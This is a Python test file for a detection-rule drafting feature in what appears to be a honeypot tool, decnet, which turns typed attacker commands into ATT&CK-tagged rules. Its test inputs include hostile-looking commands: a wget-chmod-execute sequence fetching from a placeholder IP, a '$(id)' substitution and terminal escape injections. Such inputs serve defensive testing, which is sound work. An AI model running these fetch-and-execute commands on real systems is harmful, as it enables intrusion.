"""Rule skeletons: each loads and fires on the line that it was made of, folds what changes, and says what is to be decided."""

from __future__ import annotations

import pytest

from decnet.home import packaged_rules_dir
from decnet.ttp.drafting import MAX_LINES, Draft, NothingToDraft, draft
from decnet.ttp.loader import load_bytes
from decnet.ttp.matcher import Failures, RuleIndex
from decnet.ttp.offline import OfflineTagger
from decnet.ttp.offline_sessions import received_session
from decnet.ttp.rule_schema import SCHEMA_LINE
from decnet.ttp.rules import CompiledRule
from decnet.ttp.selftest import run_rule_tests

TAGGER = OfflineTagger(packaged_rules_dir())


def of(*commands: str, line: int | None = None, technique: str | None = None) -> Draft:
    session = received_session({"session": "s", "commands": list(commands)})
    return draft(TAGGER, session, line=line, technique=technique)


def rule_of(made: Draft) -> CompiledRule:
    rule, errors = load_bytes(made.text.encode(), "draft.yaml")
    assert rule is not None, errors
    assert run_rule_tests([rule]) == []
    return rule


def fires(rule: CompiledRule, line: str) -> bool:
    return bool(RuleIndex([rule]).hits("command", {"command_text": line}, Failures())[0])


def test_a_draft_holds_for_other_names_addresses_and_paths() -> None:
    made = of("cd /tmp; wget http://203.0.113.9/a.sh -O x", line=1)
    rule = rule_of(made)
    assert made.text.startswith(SCHEMA_LINE)
    assert fires(rule, "wget https://198.51.100.2/other -O y")
    assert not fires(rule, "wget --help")
    assert [emit.technique_id for emit in rule.emits] == ["T1105"]
    assert "already tag this line" in made.text


@pytest.mark.parametrize("line", [
    "uname -a", "./x", "echo -ne '\\x7f\\x45' > /tmp/a", "exit", "a|b|c", "#!/bin/sh\n", "cat <<EOF\na\nEOF", "x" * 3000,
    "wget http://203.0.113.9/x.sh\x1b]0;owned\x07", "w''get a", "'", "$(id)", "\u202e rm", "a: b", "- c", "{a: 1}", "true",
])  # fmt: skip
def test_whatever_was_typed_the_draft_loads_and_fires_on_it(line: str) -> None:
    made = of(line, line=1)
    assert rule_of(made)
    assert made.text.isascii()
    assert not set("\x1b\x07") & set(made.text)


def test_the_line_is_the_first_that_no_rule_tags() -> None:
    assert of("cd /tmp", "uname -a", "frobnicate --all", "exit").line == 3
    assert of("cd /tmp", "uname -a", "exit").line == 2, "all are tagged, or say little"
    assert of("uname -a", "frobnicate", line=1).line == 1


def test_what_only_the_session_tells_is_named_and_taken_for_an_unknown_program() -> None:
    made = of("wget http://203.0.113.9/kxq", "chmod +x kxq", "./kxq", line=3)
    rule = rule_of(made)
    assert "exec.origin" in rule.reads()
    assert rule.tests_match == (["wget http://203.0.113.9/kxq", "chmod +x kxq", "./kxq"],)
    assert "the session tells more of this line" in made.text


def test_a_technique_can_be_given_and_must_be_one() -> None:
    assert [emit.technique_id for emit in rule_of(of("uname", line=1, technique="t1016")).emits] == ["T1016"]
    with pytest.raises(ValueError, match="no ATT&CK technique"):
        of("uname", technique="T9999")


def test_there_must_be_a_line() -> None:
    with pytest.raises(NothingToDraft, match="nothing was typed"):
        of()
    with pytest.raises(NothingToDraft, match=r"no line 3: lines 1 to 2"):
        of("a", "b", line=3)


def test_a_long_session_is_cut_to_the_lines_before_the_one_that_is_meant() -> None:
    lines = [f"wget http://203.0.113.9/kxq{n}" for n in range(MAX_LINES + 5)]
    made = of(*lines, f"./kxq{MAX_LINES + 4}", line=MAX_LINES + 6)
    ((*before, last),) = rule_of(made).tests_match
    assert (len(before) + 1, last) == (MAX_LINES, f"./kxq{MAX_LINES + 4}")


def test_the_id_is_the_next_free_one() -> None:
    assert "rule_id: X0001\n" in of("uname", line=1).text
